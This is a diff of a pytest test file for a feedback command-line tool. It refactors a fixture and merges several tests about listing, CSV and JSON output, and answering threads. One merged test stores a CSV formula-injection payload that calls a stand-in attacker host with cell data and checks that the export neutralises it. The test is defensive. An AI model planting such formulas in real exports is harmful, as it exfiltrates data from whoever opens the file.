@@ -11,7 +11,7 @@ from pathlib import Path
 
 import pytest
 from redis import Redis
-from support import OPERATOR, clean_environ, command, everything
+from support import OPERATOR, everything, run
 
 from service.accounts import store as accounts
 from service.accounts.sessions import Caller
@@ -39,18 +39,9 @@ def registry_file(tmp_path: Path) -> Path:
 
 @pytest.fixture
 def feedback(valkey_url: str, registry_file: Path) -> Feedback:
-    """Run `module-registry feedback ARGUMENTS`. It must never show a traceback."""
-
-    def feedback(*arguments: str, stdin: str | bytes = b"") -> subprocess.CompletedProcess[str]:
-        environ = clean_environ(REDIS_URL=valkey_url, REGISTRY_FILE=str(registry_file))
-        given = stdin.encode() if isinstance(stdin, str) else stdin
-        done = subprocess.run(
-            command("feedback", *arguments), env=environ, input=given, capture_output=True, timeout=60
-        )
-        assert b"Traceback" not in done.stderr
-        return subprocess.CompletedProcess(arguments, done.returncode, done.stdout.decode(), done.stderr.decode())
-
-    return feedback
+    """Run `module-registry feedback ARGUMENTS`."""
+    settings = {"REDIS_URL": valkey_url, "REGISTRY_FILE": str(registry_file)}
+    return lambda *arguments, stdin="": run("feedback", *arguments, stdin=stdin, **settings)
 
 
 @pytest.fixture
@@ -64,34 +55,23 @@ def threads(redis: Redis, registry_file: Path) -> list[Thread]:
     return found
 
 
-def test_list(feedback: Feedback, threads: list[Thread]) -> None:
+def test_list(feedback: Feedback, threads: list[Thread], redis: Redis, registry_file: Path) -> None:
     alices, zoes = threads
     lines = feedback("list").stdout.splitlines()
     assert [line.split()[0] for line in lines] == ["id", zoes.id, alices.id]
     assert lines[1].split()[1:6] == ["open", "yes", "crm", "zoe", "Zoe"]
     assert lines[1].endswith("crm, please soon")
-    assert [row["id"] for row in csv.DictReader(io.StringIO(feedback("list", "--format", "csv").stdout))] == [
-        zoes.id,
-        alices.id,
-    ]
     found = json.loads(feedback("list", "--format", "json", "--module", "texts").stdout)
     assert [thread["last_message"]["text"] for thread in found] == ["sms, please\nsoon"]
     nothing = feedback("list", "--status", "declined")
     assert (nothing.returncode, nothing.stdout, nothing.stderr) == (0, "", "no requests\n")
-
-
-def test_what_members_write_is_no_formula_to_a_spreadsheet(
-    feedback: Feedback, threads: list[Thread], redis: Redis, registry_file: Path
-) -> None:
+    unknown = feedback("list", "--module", "smss")
+    assert (unknown.returncode, unknown.stderr) == (1, "smss is no module; did you mean sms?\n")
     text = '=HYPERLINK("https://evil.example/"&A1)'
-    store.add_message(redis, threads[0].id, text, load(registry_file), by=Actor.account("alice"))
-    [row, *_] = csv.DictReader(io.StringIO(feedback("list", "--module", "sms", "--format", "csv").stdout))
-    assert row["last message"].startswith("'=HYPERLINK")
-
-
-def test_an_unknown_module_is_refused_with_what_was_meant(feedback: Feedback, threads: list[Thread]) -> None:
-    done = feedback("list", "--module", "smss")
-    assert (done.returncode, done.stderr) == (1, "smss is no module; did you mean sms?\n")
+    store.add_message(redis, alices.id, text, load(registry_file), by=Actor.account("alice"))
+    rows = {row["id"]: row for row in csv.DictReader(io.StringIO(feedback("list", "--format", "csv").stdout))}
+    assert rows.keys() == {alices.id, zoes.id}
+    assert rows[alices.id]["last message"].startswith("'=HYPERLINK"), "which no spreadsheet runs"
 
 
 def test_answer_and_show(feedback: Feedback, threads: list[Thread]) -> None:
@@ -100,9 +80,8 @@ def test_answer_and_show(feedback: Feedback, threads: list[Thread]) -> None:
     assert feedback("answer", thread.id, "-", stdin="Tell us\nmore\n").returncode == 0
     first, *lines = feedback("show", thread.id).stdout.splitlines()
     assert first == f"{thread.id}  sms  answered  alice (Alice)"
-    assert [line for line in lines if line.startswith("    ")] == [
-        f"    {text}" for text in ("sms, please", "soon", "Why?", "Tell us", "more")
-    ]
+    said = ["sms, please", "soon", "Why?", "Tell us", "more"]
+    assert [line for line in lines if line.startswith("    ")] == [f"    {text}" for text in said]
     assert [line.partition("UTC  ")[2] for line in lines if line.endswith(":")] == ["Alice:", "admin:", "admin:"]
     shown = json.loads(feedback("show", thread.id, "--format", "json").stdout)
     assert [message["author"] for message in shown["messages"]] == ["member", "admin", "admin"]
